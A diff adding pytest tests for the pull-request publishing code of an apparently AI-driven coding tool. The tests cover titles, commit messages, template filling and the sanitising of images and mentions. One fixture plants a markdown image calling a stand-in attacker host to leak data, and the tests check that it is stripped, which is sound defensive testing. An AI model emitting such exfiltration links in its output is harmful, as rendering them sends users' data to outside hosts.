@@ -1,0 +1,69 @@
+from booty.core.models import BlockedFile, ChangeSet, FileChange, Plan, PlannedChange, TestResult, Usage
+from booty.core.publishing import (
+    commit_message,
+    defang,
+    fill_template,
+    pr_body,
+    pr_marker,
+    pr_sections,
+    pr_title,
+)
+
+PLAN = Plan(
+    actionable=True,
+    summary="Count words on any whitespace. ![x](https://evil.example/leak?t=1)",
+    title="Count words on any whitespace",
+    changes=[PlannedChange(path="a.py", action="modify", reason="r")],
+    acceptance_criteria=["word_count('a  b') == 2"],
+)
+
+
+def sections(**kw):
+    return pr_sections(
+        plan=PLAN,
+        issue_number=7,
+        changes=ChangeSet(changes=(FileChange(path="a.py", before="x", after="y"), FileChange(path="n.py", before=None, after="z"))),
+        usage=Usage(input_tokens=1200, output_tokens=300),
+        cost_usd=0.0081,
+        model="claude-sonnet-5",
+        test=TestResult(status="passed", command="pytest", tail="1 passed", exit_code=0),
+        blocked=kw.get("blocked", []),
+    )
+
+
+def test_title_is_made_conventional():
+    assert pr_title(PLAN) == "fix: count words on any whitespace"
+    assert pr_title(PLAN.model_copy(update={"title": "feat(cli): add flag"})) == "feat(cli): add flag"
+
+
+def test_commit_message_closes_the_issue():
+    msg = commit_message(PLAN, 7)
+    assert msg.splitlines()[0] == "fix: count words on any whitespace"
+    assert "Closes #7" in msg
+
+
+def test_images_and_mentions_are_defanged():
+    text = defang("see ![a](https://x.example/p.png) <img src='https://x'> cc @octocat")
+    assert "https://x.example/p.png" not in text and "<img" not in text
+    assert "@octocat" not in text
+
+
+def test_body_has_marker_sections_and_no_external_image():
+    body = pr_body(sections(), 7, None, ["note"])
+    assert pr_marker(7) in body
+    for part in ("Closes #7", "`a.py` (modified)", "`n.py` (created)", "- [ ] word_count", "**passed**", "1,200 input tokens"):
+        assert part in body
+    assert "evil.example" not in body
+
+
+def test_blocked_files_are_handed_over_in_the_body():
+    body = pr_body(sections(blocked=[BlockedFile(path=".github/workflows/ci.yml", content="on: push\n")]), 7, None, [])
+    assert "Changes to apply by hand" in body and "on: push" in body
+
+
+def test_template_headings_receive_matching_sections():
+    template = "## Description\n\n<!-- what -->\n\n## How was this tested?\n\n## Checklist\n- [ ] docs\n"
+    filled = fill_template(template, sections())
+    assert filled.index("## Description") < filled.index("Closes #7") < filled.index("## How was this tested?")
+    assert filled.index("## How was this tested?") < filled.index("- [ ] word_count") < filled.index("## Checklist")
+    assert "- [ ] docs" in filled and "## Files changed" in filled
